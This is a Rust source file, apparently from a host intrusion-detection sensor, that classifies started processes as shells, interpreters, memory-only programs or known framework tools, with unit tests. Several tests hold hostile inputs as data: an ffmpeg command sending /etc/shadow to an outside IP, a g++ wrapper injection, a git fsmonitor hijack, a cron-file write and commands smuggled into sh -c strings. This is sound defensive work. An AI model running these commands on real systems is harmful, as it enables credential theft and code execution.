//! Which program is what: shells, interpreters, tools that frameworks start by themselves, programs that read files for
//! a living. Data: `rules/programs.toml`.

use std::ffi::OsStr;
use std::os::unix::ffi::OsStrExt;

use globset::{Glob, GlobBuilder, GlobSet, GlobSetBuilder};
use serde::Deserialize;

use super::severity::Effect;
use crate::event::Bytes;

const EMBEDDED: &str = include_str!("../../../rules/programs.toml");

/// What was started, as rules name it.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Kind {
    Shell,
    Interpreter,
    /// No file at all: memfd_create(2).
    Memory,
    /// A framework's own tool, with exactly the arguments that it is known to have.
    Ordinary,
    /// Anything else.
    Unexpected,
}

impl Kind {
    /// The effect that the severity table knows it by.
    pub fn effect(self) -> Effect {
        match self {
            // Whoever hides a program has a reason.
            Self::Shell | Self::Memory => Effect::Shell,
            Self::Interpreter => Effect::Interpreter,
            Self::Ordinary => Effect::Ordinary,
            Self::Unexpected => Effect::Program,
        }
    }
}

/// mm/memfd.c: what the names of such files begin with.
const MEMFD: &[u8] = b"memfd:";

/// Letters of flags that change how Python and Perl run a script, and not what they run.
const SCRIPT_FLAGS: &[u8] = b"BEIOPSTbdsuvw";

/// A program as it was started.
#[derive(Debug, Clone, Copy)]
pub struct Started<'a> {
    /// Path of the executable.
    pub exe: &'a [u8],
    pub argv: &'a [Bytes],
    /// The arguments are not complete: nothing is exact about them.
    pub argv_truncated: bool,
    /// Path of the parent's executable; empty where it isn't known.
    pub parent_exe: &'a [u8],
}

/// The lists.
#[derive(Debug, Clone)]
pub struct Programs {
    shells: GlobSet,
    interpreters: GlobSet,
    /// Globs of paths: programs of the system.
    system: GlobSet,
    readers: GlobSet,
    managers: GlobSet,
    carriers: Vec<String>,
    ordinary: Vec<Ordinary>,
}

#[derive(Debug, Clone)]
struct Ordinary {
    program: GlobSet,
    place: Place,
    flags: Flags,
    argv: Vec<Vec<String>>,
    never: GlobSet,
}

/// Arguments that may come first.
#[derive(Debug, Clone)]
struct Flags {
    alone: GlobSet,
    /// Take the next argument too.
    with_value: Vec<String>,
}

#[derive(Debug, Clone)]
enum Place {
    Globs(GlobSet),
    Parent,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct File {
    shells: Vec<String>,
    carriers: Vec<String>,
    interpreters: Vec<String>,
    readers: Vec<String>,
    managers: Vec<String>,
    system_folders: Vec<String>,
    ordinary: Vec<OrdinaryEntry>,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct OrdinaryEntry {
    /// For the reader of the file.
    #[serde(rename = "why")]
    _why: String,
    program: Vec<String>,
    place: PlaceEntry,
    #[serde(default)]
    flags: Vec<String>,
    argv: Vec<Vec<String>>,
    #[serde(default)]
    never: Vec<String>,
}

#[derive(Deserialize)]
#[serde(untagged)]
enum PlaceEntry {
    Word(PlaceWord),
    Globs(Vec<String>),
}

#[derive(Deserialize)]
#[serde(rename_all = "lowercase")]
enum PlaceWord {
    System,
    Parent,
}

impl Programs {
    /// The lists that the program carries.
    ///
    /// # Errors
    /// What is wrong with them; a test holds that nothing is.
    pub fn embedded() -> Result<Self, String> {
        Self::parse(EMBEDDED).map_err(|error| format!("programs.toml: {error}"))
    }

    fn parse(text: &str) -> Result<Self, String> {
        let file: File = toml::from_str(text).map_err(|error| error.to_string())?;
        let system: Vec<String> = file.system_folders.iter().map(|folder| format!("{folder}/*")).collect();
        let ordinary = file
            .ordinary
            .into_iter()
            .map(|entry| {
                let place = match entry.place {
                    PlaceEntry::Word(PlaceWord::System) => Place::Globs(paths(&system)?),
                    PlaceEntry::Word(PlaceWord::Parent) => Place::Parent,
                    PlaceEntry::Globs(globs) => Place::Globs(paths(&globs)?),
                };
                Ok(Ordinary {
                    program: names(&entry.program)?,
                    place,
                    flags: Flags::parse(entry.flags)?,
                    argv: entry.argv,
                    never: names(&entry.never)?,
                })
            })
            .collect::<Result<_, globset::Error>>();
        let build = || -> Result<Self, globset::Error> {
            Ok(Self {
                shells: names(&file.shells)?,
                interpreters: names(&file.interpreters)?,
                system: paths(&system)?,
                readers: names(&file.readers)?,
                managers: names(&file.managers)?,
                carriers: file.carriers,
                ordinary: ordinary?,
            })
        };
        build().map_err(|error| error.to_string())
    }

    /// What was started?
    pub fn kind(&self, started: Started<'_>) -> Kind {
        let name = name_of(started);
        if !started.argv_truncated && self.is_ordinary(name, started) {
            Kind::Ordinary
        } else if self.shells.is_match(path(name)) {
            Kind::Shell
        } else if self.interpreters.is_match(path(name)) {
            Kind::Interpreter
        } else if self.is_hidden_shell(started) {
            Kind::Shell
        } else if name.starts_with(MEMFD) {
            Kind::Memory
        } else {
            Kind::Unexpected
        }
    }

    /// Is it a framework's own tool? A script of the system's is what its name says, whoever interprets it; and so is what a
    /// shell is given to start and nothing else: there it is seen again, as itself.
    fn is_ordinary(&self, name: &[u8], started: Started<'_>) -> bool {
        let is_listed = |name, started| self.ordinary.iter().any(|entry| entry.is(name, started));
        if is_listed(name, started) {
            return true;
        }
        let is_shell = self.shells.is_match(path(name));
        if !self.system.is_match(path(started.exe)) || !(is_shell || self.interpreters.is_match(path(name))) {
            return false;
        }
        if let [_, flag, command] = started.argv
            && is_shell
            && flag == b"-c"
        {
            let Some(words) = plain_words(command) else { return false };
            let [first, ..] = &words[..] else { return false };
            let exe = if first.contains(&b'/') { first.clone() } else { [&b"/usr/bin/"[..], first].concat() };
            return is_listed(base_name(first), Started { exe: &exe, argv: &words, parent_exe: b"", ..started });
        }
        let Some(script) = script_of(started.argv) else { return false };
        let [exe, ..] = script else { return false };
        self.system.is_match(path(exe))
            && is_listed(base_name(exe), Started { exe, argv: script, parent_exe: b"", ..started })
    }

    /// Is a program outside the system's folders called as a shell is? A copy of one, or of busybox, under another name.
    fn is_hidden_shell(&self, started: Started<'_>) -> bool {
        let is_shell = |argument: &Bytes| {
            let name = base_name(argument);
            self.shells.is_match(path(name.strip_prefix(b"-").unwrap_or(name)))
        };
        let first = started.argv.get(1);
        !self.system.is_match(path(started.exe))
            && (started.argv.first().is_some_and(is_shell)
                || first.is_some_and(|argument| argument == b"-c" || is_shell(argument)))
    }

    /// Is a program (or script) of this name on the reader list? Who owns it is the caller's to check.
    pub fn is_reader(&self, name: &[u8]) -> bool {
        self.readers.is_match(path(base_name(name)))
    }

    /// Is `exe` an interpreter that was started for a script on the reader list? As the kernel does it where a file begins
    /// with `#!` (fs/binfmt_script.c): the script's path stands behind at most one flag. Who owns it is the caller's to
    /// check.
    pub fn is_reader_script(&self, exe: &[u8], argv: &[Bytes]) -> bool {
        self.interpreters.is_match(path(base_name(exe)))
            && script_of(argv).and_then(<[_]>::first).is_some_and(|script| self.is_reader(script))
    }

    /// Keys of the names of programs that open files for others, for the kernel's table.
    pub fn carriers(&self) -> Vec<(u64, u8)> {
        self.carriers.iter().map(|name| (sensor_abi::name::key_of_name(name.as_bytes()), 1)).collect()
    }

    /// Is a program of this name on the list of managers?
    pub fn is_manager(&self, name: &[u8]) -> bool {
        self.managers.is_match(path(base_name(name)))
    }
}

impl Ordinary {
    fn is(&self, name: &[u8], started: Started<'_>) -> bool {
        let arguments = self.flags.skip(started.argv.get(1..).unwrap_or_default());
        self.program.is_match(path(name))
            && match &self.place {
                Place::Globs(globs) => globs.is_match(path(started.exe)),
                Place::Parent => !started.exe.is_empty() && started.exe == started.parent_exe,
            }
            && self.argv.iter().any(|pattern| argv_matches(pattern, arguments))
            && !arguments.iter().any(|argument| self.never.is_match(path(argument)))
    }
}

impl Flags {
    fn parse(flags: Vec<String>) -> Result<Self, globset::Error> {
        let (with_value, alone): (Vec<String>, Vec<String>) = flags.into_iter().partition(|flag| flag.ends_with(' '));
        let with_value = with_value.iter().map(|flag| flag.trim_end().to_owned()).collect();
        Ok(Self { alone: names(&alone)?, with_value })
    }

    /// The arguments behind the flags.
    fn skip<'a>(&self, mut arguments: &'a [Bytes]) -> &'a [Bytes] {
        while let Some((first, rest)) = arguments.split_first() {
            if self.alone.is_match(path(first)) {
                arguments = rest;
            } else if self.with_value.iter().any(|flag| flag.as_bytes() == first) {
                arguments = rest.get(1..).unwrap_or_default();
            } else {
                break;
            }
        }
        arguments
    }
}

/// Compares arguments one by one; a last `...` stands for any rest.
fn argv_matches(pattern: &[String], arguments: &[Bytes]) -> bool {
    let (pattern, open) = match pattern.split_last() {
        Some((last, head)) if last == "..." => (head, true),
        _ => (pattern, false),
    };
    (if open { arguments.len() >= pattern.len() } else { arguments.len() == pattern.len() })
        && pattern.iter().zip(arguments).all(|(pattern, argument)| argument_matches(pattern.as_bytes(), argument))
}

/// `{n}` is a run of digits, `{path}` a run of path characters that begins with `/`, `{any}` a run of path characters
/// without `..`, `{literals}` Python literals that call nothing. Everything else is itself.
fn argument_matches(pattern: &[u8], argument: &[u8]) -> bool {
    let Some(open) = pattern.iter().position(|byte| *byte == b'{') else { return pattern == argument };
    let Some(close) = pattern.iter().position(|byte| *byte == b'}') else { return pattern == argument };
    let (before, word, after) = (&pattern[..open], &pattern[open + 1..close], &pattern[close + 1..]);
    let Some(rest) = argument.strip_prefix(before) else { return false };
    let fits = |byte: &&u8| match word {
        b"n" => byte.is_ascii_digit(),
        b"path" | b"any" => byte.is_ascii_alphanumeric() || b"/._+-".contains(byte),
        // Without a parenthesis nothing is called.
        b"literals" => !byte.is_ascii_control() && !b"()\\".contains(byte),
        _ => false,
    };
    let longest = rest.iter().take_while(fits).count();
    (1..=longest).rev().any(|length| {
        let (text, tail) = rest.split_at(length);
        let whole = match word {
            b"path" => text[0] == b'/' && !text.windows(2).any(|pair| pair == b".."),
            b"any" => !text.windows(2).any(|pair| pair == b".."),
            _ => true,
        };
        whole && argument_matches(after, tail)
    })
}

/// The name that a started program is known by: that of its executable, else what it was called as.
fn name_of<'a>(started: Started<'a>) -> &'a [u8] {
    let path = if started.exe.is_empty() { started.argv.first().map_or(&[][..], Vec::as_slice) } else { started.exe };
    base_name(path)
}

/// The script that an interpreter with these arguments was started for, and the script's own arguments.
fn script_of(argv: &[Bytes]) -> Option<&[Bytes]> {
    let is_flag = |argument: &Bytes| {
        let letters = argument.strip_prefix(b"-").unwrap_or_default();
        !letters.is_empty() && letters.iter().all(|letter| SCRIPT_FLAGS.contains(letter))
    };
    let script = argv.get(if is_flag(argv.get(1)?) { 2 } else { 1 }..)?;
    script.first()?.starts_with(b"/").then_some(script)
}

/// The words of a shell command that is one program and its arguments, whose errors may be thrown away; `None` where a
/// shell could see more in it.
fn plain_words(command: &[u8]) -> Option<Vec<Bytes>> {
    let endings = [&b" 2>/dev/null"[..], b" 2> /dev/null", b" 2>&1"];
    let command = endings.iter().find_map(|ending| command.strip_suffix(*ending)).unwrap_or(command);
    let is_plain = |byte: &u8| byte.is_ascii_alphanumeric() || b" ._/=,:@%+-".contains(byte);
    let words = command.split(|byte| *byte == b' ').filter(|word| !word.is_empty()).map(<[u8]>::to_vec);
    command.iter().all(is_plain).then(|| words.collect())
}

/// Last component; the kernel's mark of a file that is gone is no part of the name.
fn base_name(path: &[u8]) -> &[u8] {
    let path = path.strip_suffix(b" (deleted)").unwrap_or(path);
    path.rsplit(|byte| *byte == b'/').next().unwrap_or(path)
}

fn path(bytes: &[u8]) -> &OsStr {
    OsStr::from_bytes(bytes)
}

/// Globs of whole names or arguments: `*` crosses everything.
fn names(globs: &[String]) -> Result<GlobSet, globset::Error> {
    set(globs, false)
}

/// Globs of paths: `*` stays within a component.
pub fn paths(globs: &[String]) -> Result<GlobSet, globset::Error> {
    set(globs, true)
}

fn set(globs: &[String], literal_separator: bool) -> Result<GlobSet, globset::Error> {
    let mut builder = GlobSetBuilder::new();
    for glob in globs {
        builder.add(glob_of(glob, literal_separator)?);
    }
    builder.build()
}

/// One glob, case-sensitive.
pub fn glob_of(text: &str, literal_separator: bool) -> Result<Glob, globset::Error> {
    GlobBuilder::new(text).literal_separator(literal_separator).backslash_escape(true).build()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kind_of(exe: &str, argv: &[&str], parent_exe: &str) -> Kind {
        let argv: Vec<Bytes> = argv.iter().map(|text| text.as_bytes().to_vec()).collect();
        Programs::embedded().unwrap().kind(Started {
            exe: exe.as_bytes(),
            argv: &argv,
            argv_truncated: false,
            parent_exe: parent_exe.as_bytes(),
        })
    }

    #[test]
    fn what_frameworks_start_is_ordinary() {
        let python = "/opt/venv/bin/python3.11";
        let cases: &[(&str, &[&str], &str)] = &[
            ("/usr/sbin/ldconfig", &["/sbin/ldconfig", "-p"], python),
            ("/usr/bin/dash", &["/bin/sh", "/sbin/ldconfig", "-p"], python),
            ("/usr/bin/dash", &["/bin/sh", "-c", "uname -p 2> /dev/null"], python),
            ("/usr/bin/uname", &["uname", "-p"], python),
            ("/usr/bin/file", &["file", "-b", "/usr/bin/python3.11"], python),
            ("/usr/bin/x86_64-linux-gnu-g++-12", &["g++", "/tmp/a.cpp", "-O3", "-shared", "-o", "/tmp/a.so"], python),
            ("/usr/lib/gcc/x86_64-linux-gnu/12/cc1plus", &["cc1plus", "-quiet", "/tmp/a.cpp"], "/usr/bin/g++"),
            ("/usr/bin/x86_64-linux-gnu-as", &["as", "--64", "-o", "/tmp/a.o", "/tmp/a.s"], "/usr/bin/g++"),
            (
                "/usr/lib/gcc/x86_64-linux-gnu/12/collect2",
                &["collect2", "-plugin", "/usr/lib/gcc/x86_64-linux-gnu/12/liblto_plugin.so", "-o", "a.so"],
                "/usr/bin/g++",
            ),
            (python, &["python", "-c", "from multiprocessing.resource_tracker import main;main(12)"], python),
            (
                python,
                &[
                    "python",
                    "-B",
                    "-X",
                    "dev",
                    "-Werror",
                    "-c",
                    "from multiprocessing.resource_tracker import main;main(5)",
                ],
                python,
            ),
            (
                python,
                &[
                    "python",
                    "-c",
                    "from multiprocessing.spawn import spawn_main; spawn_main(tracker_fd=5, pipe_handle=77)",
                    "--multiprocessing-fork",
                ],
                python,
            ),
            (
                python,
                &[
                    "python",
                    "/opt/venv/lib/python3.11/site-packages/torch/_inductor/compile_worker/__main__.py",
                    "--kind=fork",
                ],
                python,
            ),
            (
                "/opt/venv/lib/python3.11/site-packages/triton/backends/nvidia/bin/ptxas",
                &["ptxas", "--version"],
                python,
            ),
            (
                python,
                &[
                    "python",
                    "-c",
                    "from multiprocessing.forkserver import main; main(10, 11, ['__main__'], **{'sys_path': ['/a b', '/c']})",
                ],
                python,
            ),
            (
                python,
                &[
                    "python",
                    "-m",
                    "joblib.externals.loky.backend.popen_loky_posix",
                    "--process-name",
                    "LokyProcess-1",
                    "--pipe",
                    "14",
                ],
                python,
            ),
            ("/usr/bin/lscpu", &["lscpu", "--parse=core"], python),
            ("/usr/bin/git", &["git", "rev-parse", "HEAD"], python),
            ("/usr/bin/nvidia-smi", &["nvidia-smi", "--query-gpu=index,name", "--format=csv"], python),
            ("/usr/bin/ffmpeg", &["ffmpeg", "-nostdin", "-i", "/srv/a.mp3", "-f", "s16le", "-"], python),
            // Scripts of the system's, by whatever interprets them.
            ("/usr/bin/dash", &["/bin/sh", "/usr/bin/which", "nvcc"], python),
            ("/usr/bin/dash", &["/bin/sh", "/usr/bin/lsb_release", "-a"], python),
            ("/usr/bin/python3.11", &["/usr/bin/python3", "-Es", "/usr/bin/lsb_release", "-a"], python),
            ("/usr/bin/cut", &["cut", "-c2-"], "/usr/bin/dash"),
            // What a shell does no more than start.
            ("/usr/bin/dash", &["/bin/sh", "-c", "git rev-parse --short HEAD"], python),
            ("/usr/bin/bash", &["bash", "-c", "nvidia-smi --query-gpu=index,name --format=csv 2>/dev/null"], python),
            ("/usr/bin/dash", &["sh", "-c", "/usr/bin/lscpu"], python),
            ("/usr/bin/git", &["git", "diff", "--cached", "--abbrev=40", "--full-index", "--raw"], python),
        ];
        for (exe, argv, parent) in cases {
            assert_eq!(kind_of(exe, argv, parent), Kind::Ordinary, "{exe} {argv:?}");
        }
    }

    #[test]
    fn what_only_looks_ordinary_is_not() {
        let python = "/usr/bin/python3.11";
        let cases: &[(&str, &[&str], &str, Kind)] = &[
            ("/tmp/ldconfig", &["/sbin/ldconfig", "-p"], python, Kind::Unexpected),
            ("/usr/sbin/ldconfig", &["/sbin/ldconfig", "-f", "/tmp/x"], python, Kind::Unexpected),
            ("/usr/bin/dash", &["/bin/sh", "-c", "uname -p 2> /dev/null; id"], python, Kind::Shell),
            ("/usr/bin/dash", &["/bin/sh"], python, Kind::Shell),
            ("/usr/bin/dash", &["/bin/sh", "/tmp/lsb_release", "-a"], python, Kind::Shell),
            ("/usr/bin/dash", &["/bin/sh", "/usr/bin/../../tmp/which", "nvcc"], python, Kind::Shell),
            ("/usr/bin/dash", &["/bin/sh", "/usr/bin/which", "bash"], python, Kind::Shell),
            ("/tmp/python3", &["python3", "/usr/bin/lsb_release", "-a"], python, Kind::Interpreter),
            ("/usr/bin/python3.11", &["python3", "-i", "/usr/bin/lsb_release", "-a"], python, Kind::Interpreter),
            ("/usr/bin/dash", &["sh", "-c", "PATH=/tmp lscpu"], python, Kind::Shell),
            ("/usr/bin/dash", &["sh", "-c", "/tmp/lscpu"], python, Kind::Shell),
            ("/usr/bin/dash", &["sh", "-c", "lscpu\nid"], python, Kind::Shell),
            ("/usr/bin/dash", &["sh", "-c", "lscpu $X"], python, Kind::Shell),
            ("/usr/bin/dash", &["sh", "-c", "lscpu", "x"], python, Kind::Shell),
            ("/usr/bin/dash", &["sh", "-c", ""], python, Kind::Shell),
            ("/tmp/sh", &["sh", "-c", "lscpu"], python, Kind::Shell),
            ("/usr/bin/busybox", &["sh", "-c", "id"], python, Kind::Shell),
            ("/usr/bin/g++", &["g++", "-wrapper", "sh,-c,id", "/tmp/a.cpp"], python, Kind::Unexpected),
            ("/usr/bin/g++", &["g++", "-fplugin=/tmp/x.so", "/tmp/a.cpp"], python, Kind::Unexpected),
            ("/usr/bin/ld", &["ld", "-plugin", "/tmp/liblto_plugin.so"], python, Kind::Unexpected),
            ("/usr/bin/ld", &["ld", "-plugin", "/usr/lib/gcc/../../../tmp/liblto_plugin.so"], python, Kind::Unexpected),
            (
                "/tmp/python3",
                &["python3", "-c", "from multiprocessing.resource_tracker import main;main(12)"],
                python,
                Kind::Interpreter,
            ),
            (
                python,
                &["python3", "-c", "from multiprocessing.resource_tracker import main;main(12);1"],
                python,
                Kind::Interpreter,
            ),
            (
                python,
                &["python3", "-c", "from multiprocessing.resource_tracker import main;main()"],
                python,
                Kind::Interpreter,
            ),
            (
                python,
                &["python3", "-c", "from multiprocessing.forkserver import main; main(1, 2, [exec('1')], **{})"],
                python,
                Kind::Interpreter,
            ),
            (python, &["python3", "-c", "import os"], python, Kind::Interpreter),
            ("/usr/bin/git", &["git", "-c", "core.fsmonitor=/tmp/x", "status"], python, Kind::Unexpected),
            ("/usr/bin/nvidia-smi", &["nvidia-smi", "-q", "-f", "/etc/cron.d/x"], python, Kind::Unexpected),
            ("/usr/bin/ffmpeg", &["ffmpeg", "-i", "/etc/shadow", "tcp://203.0.113.7:1"], python, Kind::Unexpected),
            (python, &["python3", "-B", "-X", "dev", "-c", "import os"], python, Kind::Interpreter),
            (python, &["python3", "-B", "-X"], python, Kind::Interpreter),
            (
                "",
                &["python3", "-c", "from multiprocessing.resource_tracker import main;main(1)"],
                "",
                Kind::Interpreter,
            ),
            ("/usr/bin/id", &["id"], python, Kind::Unexpected),
            ("/memfd:x (deleted)", &["x"], python, Kind::Memory),
            ("/tmp/sh (deleted)", &["x"], python, Kind::Shell),
            ("/tmp/update", &["update", "sh", "-c", "id"], python, Kind::Shell),
            ("/tmp/update", &["-bash"], python, Kind::Shell),
            ("/tmp/update", &["update", "-c", "id"], python, Kind::Shell),
            ("/memfd:x", &["sh"], python, Kind::Shell),
            ("/tmp/update", &["update", "--check"], python, Kind::Unexpected),
            ("/usr/bin/which", &["which", "bash"], python, Kind::Unexpected),
            ("", &["/bin/bash"], python, Kind::Shell),
            ("", &[], "", Kind::Unexpected),
            ("/usr/bin/perl5.36-x86_64-linux-gnu", &["perl"], python, Kind::Interpreter),
        ];
        for (exe, argv, parent, kind) in cases {
            assert_eq!(kind_of(exe, argv, parent), *kind, "{exe} {argv:?}");
        }
    }

    #[test]
    fn arguments_that_were_cut_are_never_exact() {
        let argv = vec![b"/sbin/ldconfig".to_vec(), b"-p".to_vec()];
        let started =
            Started { exe: b"/usr/sbin/ldconfig", argv: &argv, argv_truncated: true, parent_exe: b"/usr/bin/python3" };
        assert_eq!(Programs::embedded().unwrap().kind(started), Kind::Unexpected);
    }

    #[test]
    fn readers_and_managers_are_known_by_name() {
        let programs = Programs::embedded().unwrap();
        for reader in [
            "cp",
            "/usr/bin/sha256sum",
            "tar",
            "rsync",
            "git",
            "curl",
            "/usr/sbin/nginx",
            "cat",
            "/usr/bin/x86_64-linux-gnu-strings",
            "base64",
            "less",
            "vim.basic",
        ] {
            assert!(programs.is_reader(reader.as_bytes()), "{reader}");
        }
        for manager in ["containerd", "containerd-shim-runc-v2", "kubelet", "k3s", "sshd", "systemd"] {
            assert!(programs.is_manager(manager.as_bytes()), "{manager}");
        }
        let script = |exe: &str, argv: &[&str]| {
            let argv: Vec<Bytes> = argv.iter().map(|text| text.as_bytes().to_vec()).collect();
            programs.is_reader_script(exe.as_bytes(), &argv)
        };
        assert!(script("/usr/bin/python3.11", &["/usr/bin/python3", "/usr/bin/aws", "s3", "cp"]));
        assert!(script("/usr/bin/perl", &["/usr/bin/perl", "-w", "/usr/bin/shasum", "x"]));
        let gcloud = "/usr/lib/google-cloud-sdk/lib/gcloud.py";
        assert!(script("/usr/bin/python3.11", &["/usr/bin/python3", "-S", gcloud, "storage", "cp", "m.pt", "gs://x"]));
        assert!(script("/usr/bin/python3.13", &["/usr/bin/python3", "-sP", "/usr/bin/borg"]));
        assert!(!script("/usr/bin/python3.11", &["python3", "aws"]));
        assert!(!script("/usr/bin/python3.11", &["python3", "-c", "/usr/bin/aws"]));
        assert!(!script("/usr/bin/python3.11", &["python3", "-i", "/usr/bin/aws"]));
        assert!(!script("/usr/bin/python3.11", &["python3", "/srv/train.py", "/usr/bin/aws"]));
        assert!(!script("/usr/bin/dash", &["sh", "/usr/bin/aws"]));
        for other in ["python3", "sh", "cpx", "xcp", "torchrun"] {
            assert!(!programs.is_reader(other.as_bytes()) && !programs.is_manager(other.as_bytes()), "{other}");
        }
    }
}
